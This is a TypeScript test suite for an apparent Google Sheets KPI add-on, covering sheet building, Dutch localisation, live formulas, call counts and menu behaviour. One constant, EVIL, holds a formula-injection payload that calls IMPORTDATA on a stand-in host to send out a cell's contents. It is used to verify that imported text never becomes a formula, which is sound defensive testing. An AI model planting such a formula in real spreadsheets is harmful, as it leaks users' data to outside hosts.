import { total } from '../../../local/host/counts';
import { type Host, type HostTab, openHost } from '../../../local/host/host';
import { isFormula } from '../../../local/workbook/cell';
import type { Envelope } from '../../../src/sheet/envelope';
import { kpiRow, shown, type } from '../../schedule/scheduled-host';

/** A formula that would send cells elsewhere, as the name of a rep. */
const EVIL = '=IMPORTDATA("https://example.com/"&B2)';

const deals: HostTab = {
  name: 'Deals',
  cells: [
    ['Deal', 'Stage', 'Amount', 'Created', 'Close date', 'Owner'],
    ...Array.from({ length: 60 }, (_, index): (string | number)[] => {
      const month = String((index % 5) + 1).padStart(2, '0');
      const stage = index % 3 === 0 ? 'Closed Lost' : 'Closed Won';
      const owner = ['Ann', 'Bob', `'${EVIL}`.slice(1), '+31 6 1234'][index % 4];
      return [`Deal ${index}`, stage, 1000 + index, `2017-${month}-02`, `2017-${month}-1${index % 9}`, owner];
    }),
  ],
};

const plan = {
  period: 'month',
  objective: 'grow revenue',
  kpis: [
    { id: 'win_rate', owner: '=1+1', targets: [{ from: '2017-01-01', to: '2017-12-31', target: 0.6 }] },
    { id: 'revenue', targets: [{ from: '2017-01-01', to: '2017-12-31', target: 50_000 }] },
    { id: 'churn' },
  ],
};

const open = (locale = 'en_US'): Host => openHost({ dist: 'dist', tabs: [deals], locale });

function build(host: Host, request: object = { plan, asOf: '2017-05-17' }): Envelope {
  const answer = host.call('buildKpiSheet', [request]) as Envelope | null;
  expect(host.state.complaints).toEqual([]);
  if (answer === null) throw new Error('no answer');
  return answer;
}

describe('buildKpiSheet, as built', () => {
  test('makes the KPI sheet, the plan tab and the tab per rep, and leaves raw tabs as they were', () => {
    const host = open();
    const before = shown(host, 'Deals');
    const answer = build(host);
    expect(host.workbook.activeSheet?.name).toBe('KPIs');
    expect(answer.ok).toBe(true);
    expect(host.workbook.sheets.map(({ name }) => name)).toEqual([
      'KPIs',
      'KPI charts',
      'KPI questions',
      'KPIs per rep',
      'KPI plan',
      'Deals',
    ]);
    expect(shown(host, 'Deals')).toEqual(before);
    const report = answer.ok ? answer.data.report : null;
    const reported = report?.kpis.find(({ id }) => id === 'win_rate');
    expect(kpiRow(host, 'Win rate')).toMatchObject({ Actual: reported?.value, n: reported?.n, Target: 0.6 });
    expect(kpiRow(host, 'Churn rate')).toMatchObject({ Actual: '', Status: 'no number' });
    expect(kpiRow(host, 'Churn rate').Remark).toBe(report?.kpis.find(({ id }) => id === 'churn')?.reason);
  });

  test('an edited target shows in attainment, pace and status at once', () => {
    const host = open();
    build(host);
    const { Actual, Status } = kpiRow(host, 'Revenue');
    expect(Status).not.toBe('ahead');
    type(host, 'Revenue', 'Target', 10);
    expect(kpiRow(host, 'Revenue')).toMatchObject({ Attainment: (Actual as number) / 10, Status: 'on track' });
  });

  test('reps add up to the company, whoever they are', () => {
    const host = open();
    build(host);
    const rows = shown(host, 'KPIs per rep').slice(2);
    const column = rows[0].indexOf('Revenue');
    const company = rows.find((row) => row[0] === 'Company') as unknown[];
    const reps = rows.slice(1).filter((row) => row !== company);
    expect(reps.reduce((sum, row) => sum + Number(row[column]), 0)).toBeCloseTo(company[column] as number, 6);
    expect(company[column]).toBe(kpiRow(host, 'Revenue').Actual);
  });

  test('no word of a title per rep is cut off by the column beside it', () => {
    const host = open('nl_NL');
    build(host);
    const { columnWidths } = host.workbook.sheetByName('KPI’s per vertegenwoordiger') as {
      columnWidths: Map<number, number>;
    };
    const titles = shown(host, 'KPI’s per vertegenwoordiger')[2].map(String);
    expect(titles).toContain('Winpercentage');
    titles.forEach((title, at) => {
      const longest = Math.max(...title.split(' ').map(({ length }) => length));
      expect(columnWidths.get(at + 1) ?? 100).toBeGreaterThan(7 * longest);
    });
  });

  test('text from raw tabs and from plans never becomes a formula', () => {
    const host = open();
    build(host);
    const formulas = ['KPIs', 'KPI questions', 'KPIs per rep', 'KPI plan'].flatMap((name) => {
      const found: string[] = [];
      host.workbook.sheetByName(name)?.contents.each((content) => {
        if (isFormula(content)) found.push(content.formula);
      });
      return found;
    });
    // The headline; of three KPIs the card, without a sparkline where there are no months, and attainment, status, pace and
    // change: nothing else is a formula.
    const [sentence, ...others] = formulas;
    expect(sentence).toMatch(/^="May 2017, 57% elapsed: "&IF\(/);
    const ours = [
      /^=IF\(/,
      /^=IFERROR\((IF\(ISNUMBER\()?INDEX\(\$[A-Z]\$12:\$[A-Z]\$14,MATCH\(\$[A-Z]\$3,\$A\$12:\$A\$14,0\)\)/,
      /^=SPARKLINE\(SPLIT\("[\d ·]+"," "\),\$[A-Z]\$\d+:\$[A-Z]\$\d+\)$/,
    ];
    expect(ours.map((one) => others.filter((formula) => one.test(formula)).length)).toEqual([3 * 4, 3 * 4, 2]);
    expect(others).toHaveLength(26);
    expect(shown(host, 'KPIs per rep').map((row) => row[0])).toEqual(expect.arrayContaining([EVIL, '+31 6 1234']));
    expect(kpiRow(host, 'Win rate').Owner).toBe('=1+1');
  });

  test.each(['en_US', 'nl_NL'])('a live formula gives the very number that the add-on writes, in %s', (locale) => {
    for (const period of ['month', 'all', '2017-02-01..2017-04-30']) {
      const host = open(locale);
      const written = build(host, { plan: { ...plan, language: 'en', period }, asOf: '2017-05-17' });
      const value = kpiRow(host, 'Win rate').Actual;
      expect(typeof value).toBe('number');
      const kpis = plan.kpis.map((kpi) => ({ ...kpi, live: true }));
      const live = open(locale);
      build(live, { plan: { ...plan, language: 'en', period, kpis }, asOf: '2017-05-17' });
      expect(kpiRow(live, 'Win rate').Actual).toBe(value);
      expect(kpiRow(live, 'Revenue').Actual).toBe(kpiRow(host, 'Revenue').Actual);
      expect(written.ok).toBe(true);
    }
  });

  test('a Dutch spreadsheet gets a Dutch sheet whose formulas work', () => {
    const host = open('nl_NL');
    build(host);
    expect(kpiRow(host, 'Winpercentage', 'KPI’s').Status).toMatch(/schema|gevaar/);
    expect(kpiRow(host, 'Churnpercentage', 'KPI’s').Status).toBe('geen getal');
  });

  test('building again keeps a typed owner, and asks for few calls beside one read a tab', () => {
    const host = open();
    const others = (): number => {
      const { reads, writes } = host.counts;
      return total(reads) + total(writes) - (reads['Range.getValues'] ?? 0);
    };
    build(host);
    // A new sheet is dressed once, and each of its looks is a call; the tab of charts takes ten of them, two its charts, one
    // that beside the cards, the tab of questions eight; where headers of numbers stand at the right is one for each tab, and
    // that the plan tab is a form seven: what words of answers mean lies in a closed column. Large titles and no lines between
    // the cells are two for each of three tabs, rows of one height with all in the middle of them two, and so
    // are long names that go on below each other in the history and the log of deals.
    expect(others()).toBeLessThanOrEqual(79);
    type(host, 'Revenue', 'Owner', 'carla@example.com');
    host.resetCounts();
    build(host, {});
    // The remark stands between two columns that people type in, where it is seen: it is written by itself
    expect(others()).toBeLessThanOrEqual(34);
    expect(host.counts.reads['Range.getValues']).toBe(6);
    expect(host.counts.readsAfterWrites).toBe(0);
    expect(kpiRow(host, 'Revenue').Owner).toBe('carla@example.com');
  });

  test('what cannot be done comes back as a sentence', () => {
    const refused = (request: object): string => {
      const answer = build(open(), request);
      return answer.ok ? '' : answer.error;
    };
    expect(refused({ plan: { kpis: [{ id: 'profit' }] } })).toContain('“profit” at kpis[0].id');
    expect(refused({ asOf: 'yesterday' })).toBe('“yesterday” is no date as 2026-12-31.');
    expect(refused({ period: 'weekly' })).toContain('“weekly” is no period');
  });
});

describe('what Apps Script may call', () => {
  test('opening adds the menu in every mode, in the language of the person', () => {
    for (const [locale, label] of [
      ['en', 'Refresh KPIs'],
      ['nl', 'KPI’s vernieuwen'],
    ]) {
      const host = openHost({ dist: 'dist', tabs: [deals], user: { email: 'a@example.com', locale } });
      host.call('onOpen', [], { caller: 'open', mode: 'NONE' });
      expect(host.state.menu.map((item) => item.label)).toContain(label);
    }
  });

  test('a plan without a KPI makes a sheet all the same, to which rows can be added', () => {
    const host = open();
    expect(build(host, { plan: { period: 'month', kpis: [] }, asOf: '2017-05-17' })).toMatchObject({ ok: true });
    expect(host.workbook.sheets.map(({ name }) => name)).toEqual(expect.arrayContaining(['KPIs', 'KPI plan']));
  });

  test('readKpis computes and writes nothing', () => {
    const host = open();
    const answer = host.call('readKpis', [{ plan, asOf: '2017-05-17' }]) as Envelope;
    expect(answer.ok && answer.data.kpis.map(({ id }) => id)).toEqual(['win_rate', 'revenue', 'churn']);
    expect(total(host.counts.writes)).toBe(0);
  });

  test('the menu refreshes and shows the page', () => {
    const host = open();
    host.call('refreshKpis', [], { caller: 'menu' });
    expect(host.state.alerts).toEqual([]);
    expect(host.workbook.sheetByName('KPIs')).toBeDefined();
    host.call('showSidebar', [], { caller: 'menu' });
    expect(host.state.pages).toHaveLength(1);
  });

  test.each(['onOpen', 'onInstall', 'showSidebar', 'refreshKpis', 'buildKpiSheet', 'readKpis'])(
    '%s typed into a cell fails with a sentence and changes nothing',
    (name) => {
      const host = open();
      const shownInCell = JSON.stringify(host.evaluate(`=${name}(1)`));
      expect(shownInCell).toContain('works from the menu');
      expect(host.workbook.sheets).toHaveLength(1);
    },
  );
});
